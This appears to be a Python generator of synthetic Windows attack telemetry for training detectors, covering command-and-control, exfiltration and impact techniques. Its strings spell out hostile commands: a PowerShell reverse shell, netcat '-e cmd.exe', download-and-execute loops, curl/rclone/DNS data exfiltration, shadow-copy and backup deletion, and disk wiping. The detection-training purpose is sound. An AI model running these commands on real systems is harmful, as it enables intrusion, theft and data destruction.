"""Simulated Windows attacks, part 4: command and control, exfiltration and impact.

These three tactics have no examples in the recorded lab data, so their generators carry the most
variety: several documented procedures per technique id (ATT&CK, Atomic Red Team, LOLBAS), each
with random tools, folders, addresses, ports, beacon intervals and volumes.
"""

from __future__ import annotations

from pipeline.training.sim.builder import Proc
from pipeline.training.sim.catalog import Registry
from pipeline.training.sim.session import Session
from pipeline.training.sim.vocab import sys32
from pipeline.training.sim.win_attack1 import HKCU_RUN, _download, _payload_path, _sid
from schemas.events import Platform

REG = Registry(Platform.WINDOWS)
add = REG.add


def _beacon(s: Session, p: Proc, *, port: int | None = None, n: tuple[int, int] = (4, 30), dns: bool = True) -> None:
    """Regular callbacks to one server with small jitter (HTTP(S) C2 check-ins)."""
    b, r = s.b, s.r
    ip, host = r.ext_ip(), r.pick((r.domain(), f"{r.token(3, 8)}.{r.domain()}", None))
    port = port or r.pick((443, 443, 80, 8080, 8443, 53, 4444, 8888))
    interval = r.pick((5.0, 10.0, 30.0, 60.0))
    if dns and host:
        b.dns(p, host, (ip,))
    for _ in range(r.num(*n)):
        b.connect(p, ip, port, hostname=host)
        b.tick(interval * 0.8, interval * 1.2)


# --- CommandAndControl (TA0011) ----------------------------------------------------------------

@add("T1105", "CommandAndControl")
def ingress_tool_transfer(s: Session) -> None:
    """Tools are pulled from the Internet by LOLBins (certutil, bitsadmin, curl, iwr) and run."""
    r = s.r
    for _ in range(r.num(1, 3)):
        dest = _payload_path(s, r.pick(("exe", "dll", "ps1", "zip", "bat")))
        _download(s, dest)
        if dest.endswith("exe") and r.chance(0.6):
            p = s.run(dest, f'"{dest}"')
            _beacon(s, p, n=(2, 8))


@add("T1071.001", "CommandAndControl")
def http_beacon(s: Session) -> None:
    """An implant (dropped exe, argument-less rundll32, hidden PowerShell) beacons over HTTP(S)."""
    b, r = s.b, s.r
    kind = r.rng.randrange(4)
    if kind == 0:
        p = s.run(_payload_path(s), f'"{_payload_path(s)}"')
    elif kind == 1:
        p = s.run(sys32(r, "rundll32.exe"), r.pick(("rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", f"rundll32.exe {_payload_path(s, 'dll')},{r.token(4, 10)}")))
    elif kind == 2:
        p = s.ps(f"while($true){{$r=iwr -UseBasicParsing http://{r.domain()}/{r.token()} -Headers @{{'Cookie'='session={r.b64(20, 40)}'}};if($r.Content){{iex $r.Content}};sleep {r.num(3, 60)}}}", encoded=0.7)
    else:
        host_image = r.pick((sys32(r, "dllhost.exe"), sys32(r, "svchost.exe"), sys32(r, "werfault.exe"), sys32(r, "gpupdate.exe")))
        p = s.run(host_image, r.pick((host_image.rsplit("\\", 1)[1], f"{host_image.rsplit(chr(92), 1)[1]} /Processid:{r.guid()}")))
        b.inject(s.shell, p)
    b.load(p, sys32(r, r.pick(("winhttp.dll", "wininet.dll"))))
    _beacon(s, p)
    if r.chance(0.5):
        child = s.run(sys32(r, "cmd.exe"), f"cmd.exe /c {r.pick(('whoami', 'hostname', 'ipconfig', 'dir'))}", parent=p)
        del child


@add("T1071.004", "CommandAndControl")
def dns_tunnel(s: Session) -> None:
    """C2 or tunnelling over DNS: many queries with long random subdomains of one domain."""
    b, r = s.b, s.r
    p = s.run(_payload_path(s), f"{_payload_path(s)} {r.pick(('--dns', '-d', '--domain ' + r.domain(), ''))}") if r.chance(0.6) else s.ps(
        f"Invoke-DNSExfiltrator -i data.zip -d {r.domain()} -p {r.token()}", encoded=0.5)
    domain = r.domain()
    for _ in range(r.num(15, 60)):
        b.dns(p, f"{r.hexstr(r.num(20, 60))}.{r.token(2, 6)}.{domain}", (r.ext_ip(),))
        b.tick(0.2, 3.0)
    b.connect(p, r.pick(("8.8.8.8", "1.1.1.1", r.int_ip())), 53, udp=True)


@add("T1572", "CommandAndControl")
def protocol_tunnel(s: Session) -> None:
    """A tunnel or reverse proxy is set up (plink -R, ssh -R/-D, chisel, ngrok, portproxy)."""
    r = s.r
    ip = r.ext_ip()
    tool_dir = s.wdir()
    image, cmd = r.pick(((f"{tool_dir}\\plink.exe", f"{tool_dir}\\plink.exe -ssh -P 22 -l {r.token()} -pw {r.token(8, 12)} -R {r.num(1024, 65000)}:127.0.0.1:3389 {ip}"),
                         (sys32(r, "OpenSSH\\ssh.exe"), f"ssh -N -R {r.num(1024, 65000)}:localhost:3389 {r.token()}@{ip}"),
                         (f"{tool_dir}\\{r.pick(('chisel.exe', r.name('exe')))}", f"{tool_dir}\\chisel.exe client {ip}:{r.pick((443, 8080))} R:socks"),
                         (f"{tool_dir}\\ngrok.exe", f"{tool_dir}\\ngrok.exe tcp 3389 --authtoken {r.hexstr(40)}"),
                         (sys32(r, "netsh.exe"), f"netsh interface portproxy add v4tov4 listenport={r.num(1024, 65000)} listenaddress=0.0.0.0 connectport=443 connectaddress={ip}")))
    p = s.run(image, cmd, via_shell=0.2)
    _beacon(s, p, port=r.pick((22, 443, 8080)), n=(2, 6), dns=False)


@add("T1219", "CommandAndControl")
def remote_access_software(s: Session) -> None:
    """A remote-access tool is silently installed/run from a user folder by a script."""
    r = s.r
    tool = r.pick(("AnyDesk.exe", "TeamViewer.exe", "ScreenConnect.ClientService.exe", "atera_agent.exe", "rutserv.exe"))
    path = f"{s.wdir()}\\{tool}"
    _download(s, path)
    args = r.pick(("--install C:\\ProgramData\\AnyDesk --start-with-win --silent", "--set-password", "/S", "-silent"))
    p = s.run(path, f'"{path}" {args}')
    if r.chance(0.5):
        s.cmd(f"echo {r.token(8, 12)} | \"{path}\" --set-password")
    _beacon(s, p, port=r.pick((443, 80, 5938, 7070)), n=(2, 10))


@add("T1095", "CommandAndControl")
def raw_tcp_shell(s: Session) -> None:
    """A reverse shell over a raw TCP socket (nc/ncat, PowerShell TCPClient) to a high port."""
    b, r = s.b, s.r
    ip, port = r.ext_ip(), r.pick((4444, 1337, 9001, 5555, 443, 8081))
    if r.chance(0.5):
        tool = f"{s.wdir()}\\{r.pick(('nc.exe', 'nc64.exe', 'ncat.exe'))}"
        p = s.run(tool, f"{tool} {ip} {port} -e cmd.exe")
    else:
        p = s.ps(f"$c=New-Object System.Net.Sockets.TCPClient('{ip}',{port});$s=$c.GetStream();[byte[]]$b=0..65535|%{{0}};while(($i=$s.Read($b,0,$b.Length)) -ne 0){{$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}}", encoded=0.6)
    b.connect(p, ip, port)
    sh = s.run(sys32(r, "cmd.exe"), "cmd.exe", parent=p)
    for c in r.sample(("whoami", "hostname", "ipconfig"), r.num(0, 2)):
        s.run(sys32(r, f"{c}.exe"), c, parent=sh)


# --- Exfiltration (TA0010) ---------------------------------------------------------------------

def _stage_archive(s: Session) -> str:
    r = s.r
    archive = f"{s.wdir()}\\{r.name(r.pick(('zip', '7z', 'rar', 'dat', 'tmp')))}"
    if r.chance(0.6):
        tool = r.pick(("C:\\Program Files\\7-Zip\\7z.exe", f"{s.wdir()}\\7za.exe"))
        p = s.run(tool, f'"{tool}" a {r.pick(("-p" + r.token(6, 10), ""))} {archive} C:\\Users\\{s.user}\\Documents\\*'.replace("  ", " "))
        s.b.create(p, archive)
        s.b.write(p, archive, r.num(1_000_000, 500_000_000))
    return archive


@add("T1048.003", "Exfiltration")
def exfil_alt_protocol(s: Session) -> None:
    """Staged data leaves by FTP/TFTP/raw HTTP POST rather than the C2 channel."""
    b, r = s.b, s.r
    archive = _stage_archive(s)
    ip = r.ext_ip()
    choice = r.rng.randrange(3)
    if choice == 0:
        script = f"{s.wdir()}\\{r.name('txt')}"
        b.write(s.shell, script, 120)
        p = s.run(sys32(r, "ftp.exe"), f"ftp -i -s:{script} {ip}", via_shell=0.3)
        port = 21
    elif choice == 1:
        p = s.run(sys32(r, "curl.exe"), f"curl.exe -T {archive} ftp://{ip}/ --user {r.token()}:{r.token(8, 12)}")
        port = 21
    else:
        p = s.run(sys32(r, "curl.exe"), f"curl.exe -X POST --data-binary @{archive} http://{ip}:{r.pick((80, 8000, 8080))}/{r.token()}")
        port = 80
    for _ in range(r.num(1, 6)):
        b.connect(p, ip, port)


@add("T1567.002", "Exfiltration")
def exfil_cloud_storage(s: Session) -> None:
    """Data is synced to cloud storage with rclone/megacmd or uploaded to a paste/file-share service."""
    b, r = s.b, s.r
    stage = s.wdir()
    _stage_archive(s)
    service = r.pick(("mega", "gdrive", "dropbox", "s3", "pcloud"))
    if r.chance(0.6):
        tool = f"{stage}\\{r.pick(('rclone.exe', 'svchost.exe', r.name('exe')))}"
        b.write(s.shell, f"{stage}\\rclone.conf", 300)
        source = r.pick(("C:\\Users\\" + s.user + "\\Documents", "\\\\" + r.host() + "\\Finance", stage))
        p = s.run(tool, f'{tool} {r.pick(("copy", "sync"))} "{source}" {service}:{r.token()} -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12 --config {stage}\\rclone.conf')
    else:
        p = s.run(sys32(r, "curl.exe"), f"curl.exe -F \"file=@{stage}\\{r.name('zip')}\" https://{r.pick(('transfer.sh', 'file.io', 'api.anonfiles.com/upload', 'discord.com/api/webhooks/' + str(r.num(10**17, 10**18)) + '/' + r.token(30, 60)))}")
    host = r.pick(("g.api.mega.co.nz", "content.dropboxapi.com", "www.googleapis.com", "s3.amazonaws.com", "transfer.sh", "discord.com"))
    b.dns(p, host, (r.ext_ip(),))
    for _ in range(r.num(4, 30)):
        b.connect(p, r.ext_ip(), 443, hostname=host)


@add("T1041", "Exfiltration")
def exfil_over_c2(s: Session) -> None:
    """An implant reads staged files and posts them to its C2 server in chunks."""
    b, r = s.b, s.r
    archive = _stage_archive(s)
    url = f"http{r.pick(('', 's'))}://{r.pick((r.ext_ip(), r.domain()))}/{r.token()}"
    p = s.ps(r.pick((f"Invoke-RestMethod -Uri {url} -Method Post -InFile {archive}",
                     f"(New-Object Net.WebClient).UploadFile('{url}','{archive}')",
                     f"$b=[IO.File]::ReadAllBytes('{archive}');for($i=0;$i -lt $b.Length;$i+=65536){{iwr {url} -Method POST -Body $b[$i..($i+65535)]}}")), encoded=0.5)
    ip = r.ext_ip()
    for _ in range(r.num(5, 40)):
        b.connect(p, ip, 443 if url.startswith("https") else 80)


@add("T1052.001", "Exfiltration")
def exfil_removable_media(s: Session) -> None:
    """Documents are copied en masse to a removable drive."""
    b, r = s.b, s.r
    drive = r.pick(("E:", "F:", "G:"))
    p = s.cmd(f"{r.pick(('xcopy /s /y /c', 'robocopy /s', 'copy /y'))} C:\\Users\\{s.user}\\Documents {drive}\\{r.token()}")
    for _ in range(r.num(10, 60)):
        b.create(p, f"{drive}\\{r.token()}\\{r.name(r.pick(('docx', 'pdf', 'xlsx', 'pst')))}")


@add("T1048", "Exfiltration")
def exfil_dns_icmp(s: Session) -> None:
    """Data is smuggled out in DNS lookups (nslookup/Resolve-DnsName loops) or ping payloads."""
    b, r = s.b, s.r
    domain = r.domain()
    if r.chance(0.6):
        p = s.ps(f"$d=[Convert]::ToBase64String([IO.File]::ReadAllBytes('{_payload_path(s, 'zip')}'));for($i=0;$i -lt $d.Length;$i+=60){{Resolve-DnsName ($d.Substring($i,60)+'.{domain}')}}", encoded=0.4)
    else:
        p = s.cmd(f'for /f %a in ({_payload_path(s, "txt")}) do nslookup %a.{domain}')
    for _ in range(r.num(20, 80)):
        b.dns(p, f"{r.b64(20, 40).replace('/', '-').replace('+', '_').rstrip('=')}.{domain}")


# --- Impact (TA0040) ---------------------------------------------------------------------------

@add("T1490", "Impact")
def inhibit_recovery(s: Session) -> None:
    """Shadow copies, backups and boot recovery are deleted/disabled (vssadmin, wmic, bcdedit, wbadmin)."""
    r = s.r
    cmds = [("vssadmin.exe", r.pick(("vssadmin delete shadows /all /quiet", "vssadmin.exe Delete Shadows /All /Quiet", "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB"))),
            ("wbem\\WMIC.exe", "wmic shadowcopy delete /nointeractive"),
            ("bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
            ("bcdedit.exe", "bcdedit /set {default} bootstatuspolicy ignoreallfailures"),
            ("wbadmin.exe", r.pick(("wbadmin delete catalog -quiet", "wbadmin delete systemstatebackup -keepVersions:0", "wbadmin DELETE BACKUP -deleteOldest")))]
    for exe, cmd in r.sample(cmds, r.num(1, 4)):
        s.run(sys32(r, exe), cmd, via_shell=0.5, integrity="High")
    if r.chance(0.3):
        s.ps("Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }", encoded=0.5)


@add("T1486", "Impact")
def ransomware_encrypt(s: Session) -> None:
    """Files across user folders are rewritten, renamed to a new extension, and ransom notes dropped."""
    b, r = s.b, s.r
    tool = _payload_path(s)
    args = r.pick(("", " -path C:\\", " --encrypt", " /all"))
    p = s.run(tool, f'"{tool}"{args}', integrity=r.pick(("High", "Medium")))
    ext = r.pick((r.token(3, 6), r.hexstr(5), "locked", "encrypted", "crypt"))
    note = r.pick(("README.txt", "HOW_TO_DECRYPT.txt", f"{r.token().upper()}-README.txt", "RESTORE_FILES.html", "!!!READ_ME!!!.hta"))
    dirs = [f"C:\\Users\\{s.user}\\{d}" for d in ("Documents", "Desktop", "Pictures", "Downloads")] + ["D:\\Shares", f"\\\\{r.host()}\\Shared"]
    for d in r.sample(dirs, r.num(2, 5)):
        b.create(p, f"{d}\\{note}")
        for _ in range(r.num(8, 40)):
            f = f"{d}\\{r.name(r.pick(('docx', 'xlsx', 'pdf', 'jpg', 'txt', 'sql', 'bak')))}"
            b.write(p, f)
            b.rename(p, f, f"{f}.{ext}")
            b.tick(0.001, 0.05)
    if r.chance(0.5):
        b.reg(p, HKCU_RUN.format(sid=_sid(s)).replace("Run", "Policies\\System") + "\\Wallpaper", "Wallpaper", f"{s.wdir()}\\{r.name('bmp')}")


@add("T1489", "Impact")
def service_stop(s: Session) -> None:
    """Databases, backup agents and security services are stopped and killed before encryption."""
    r = s.r
    svcs = r.sample(("MSSQLSERVER", "SQLWriter", "VeeamBackupSvc", "BackupExecJobEngine", "MSExchangeIS", "wbengine", "vss",
                     "sophos", "YooBackup", "SstpSvc", "MySQL80", "OracleServiceORCL", "DefWatch", "ccEvtMgr", "SavRoam"), r.num(3, 10))
    for svc in svcs:
        if r.chance(0.5):
            s.run(sys32(r, "net.exe"), f"net stop {svc} /y", via_shell=0.5)
        else:
            s.run(sys32(r, "sc.exe"), f"sc {r.pick(('stop', 'config'))} {svc}{r.pick(('', ' start= disabled'))}", via_shell=0.5)
    for proc in r.sample(("sqlservr.exe", "oracle.exe", "outlook.exe", "excel.exe", "winword.exe", "mysqld.exe", "veeam.exe"), r.num(1, 5)):
        s.run(sys32(r, "taskkill.exe"), f"taskkill /f /im {proc}", via_shell=0.4)


@add("T1485", "Impact")
def data_destruction(s: Session) -> None:
    """Data is wiped: sdelete/cipher /w, mass delete of backups, formatting."""
    b, r = s.b, s.r
    choice = r.rng.randrange(3)
    if choice == 0:
        tool = f"{s.wdir()}\\{r.pick(('sdelete.exe', 'sdelete64.exe'))}"
        target = r.pick(("C:\\Users", "D:\\", "C:\\Backup"))
        p = s.run(tool, f"{tool} -accepteula -r -s -q {target}")
    elif choice == 1:
        target = r.pick(("C:", "D:", "C:\\Users"))
        p = s.run(sys32(r, "cipher.exe"), f"cipher /w:{target}", via_shell=0.4)
    else:
        target = r.pick(("C:\\Backup\\*.*", "D:\\*.bak", "C:\\Users\\*.vhdx", "E:\\WindowsImageBackup\\*"))
        p = s.cmd(f"del /s /f /q {target}")
    for _ in range(r.num(10, 60)):
        folder = r.pick(("C:\\Backup", "D:\\Backups", "E:\\WindowsImageBackup"))
        b.delete(p, f"{folder}\\{r.name(r.pick(('bak', 'vhdx', 'vbk', 'sql', 'zip')))}")


@add("T1529", "Impact")
def shutdown_reboot(s: Session) -> None:
    """The host is forced to reboot/shut down (often to finish encryption or deny service)."""
    r = s.r
    s.run(sys32(r, "shutdown.exe"), r.pick(("shutdown /r /t 0 /f", "shutdown -s -t 00", "shutdown /r /f /t 5 /c \"" + r.token() + "\"")), via_shell=0.5)


@add("T1531", "Impact")
def account_access_removal(s: Session) -> None:
    """Passwords of many accounts are changed or accounts deleted/disabled to lock admins out."""
    r = s.r
    for _ in range(r.num(2, 8)):
        user = r.pick((r.user(), "Administrator", "admin", r.token()))
        s.run(sys32(r, "net.exe"), r.pick((f"net user {user} {r.token(10, 16)}", f"net user {user} /delete", f"net user {user} /active:no")), via_shell=0.5)
    if r.chance(0.4):
        s.ps(f"Get-LocalUser | ? {{ $_.Name -ne '{r.token()}' }} | Set-LocalUser -Password (ConvertTo-SecureString '{r.token(10, 14)}' -AsPlainText -Force)")


@add("T1496", "Impact")
def resource_hijacking(s: Session) -> None:
    """A coin miner runs from a writable folder and talks to a mining pool (stratum)."""
    r = s.r
    miner = f"{s.wdir()}\\{r.pick(('xmrig.exe', 'svchost.exe', r.name('exe')))}"
    p = s.run(miner, f"{miner} -o {r.pick(('stratum+tcp://', 'stratum+ssl://', ''))}{r.pick(('pool.minexmr.com', 'xmr.' + r.domain(), r.ext_ip()))}:{r.pick((3333, 4444, 5555, 14444, 443))} -u {r.b64(40, 60)} -p x {r.pick(('--donate-level=1', '-t ' + str(r.num(1, 8)), '--background'))}")
    _beacon(s, p, port=r.pick((3333, 4444, 5555, 14444)), n=(3, 12))
    if r.chance(0.4):
        s.run(sys32(r, "schtasks.exe"), f'schtasks /create /tn {r.word()} /tr "{miner}" /sc onstart /ru system /f')
